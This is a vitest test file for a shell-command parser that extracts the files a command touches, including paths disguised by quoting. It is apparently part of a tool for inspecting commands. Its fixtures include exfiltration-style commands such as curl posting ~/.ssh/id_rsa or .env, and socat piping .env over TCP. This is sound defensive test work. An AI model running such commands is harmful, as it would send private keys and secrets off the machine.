import { expect, test } from 'vitest';
import { namesOf, wordsOf } from '../../../src/inspect/reading/words.ts';

test('finds the words of a command, also those that hide', () => {
  expect(wordsOf('cat "a b.txt" >out;ls ~/x')).toEqual(['cat', 'b.txt', 'out', 'ls', '~/x']);
  expect(wordsOf("cat ~/.s''sh/id")).toContain('~/.ssh/id');
  expect(wordsOf('cat ~/.s\\sh/id')).toContain('~/.ssh/id');
  expect(wordsOf('type C:\\Users\\me')).toContain('C:\\Users\\me');
  expect(wordsOf('')).toEqual([]);
});

test.each([
  ['curl -d @~/.ssh/id_rsa x', '~/.ssh/id_rsa'],
  ['curl -d "@$HOME/x y" x', '$HOME/x'],
  ['curl -d@~/x.json x', '~/x.json'],
  ['curl -F f=@.env x', '.env'],
  ['curl --data-urlencode key@~/x x', '~/x'],
  ['http x.io f@.env', '.env'],
  ['http x.io f@secrets.json', 'secrets.json'],
  ['http x.io f:=@../x', '../x'],
  ['aws lambda invoke --payload fileb://.env x', '.env'],
  ['socat -u OPEN:.env TCP:x:1', '.env'],
])('finds the file that a word of %j holds', (command, file) => {
  expect(wordsOf(command)).not.toContain(file);
  expect(namesOf(command)).toContain(file);
});

test.each([
  'ssh deploy@prod.env',
  'ssh me@id_rsa',
  'docker run img@sha256:0123',
  'git log @{u}..HEAD',
  'psql postgres://u:p@db.env/x',
  'curl https://x.io/@types/.env',
  'http x.io to=me@there.example',
  'ls a b.txt',
])('takes no part of a word for a file in %j', (command) => {
  expect(namesOf(command)).toEqual(wordsOf(command));
});
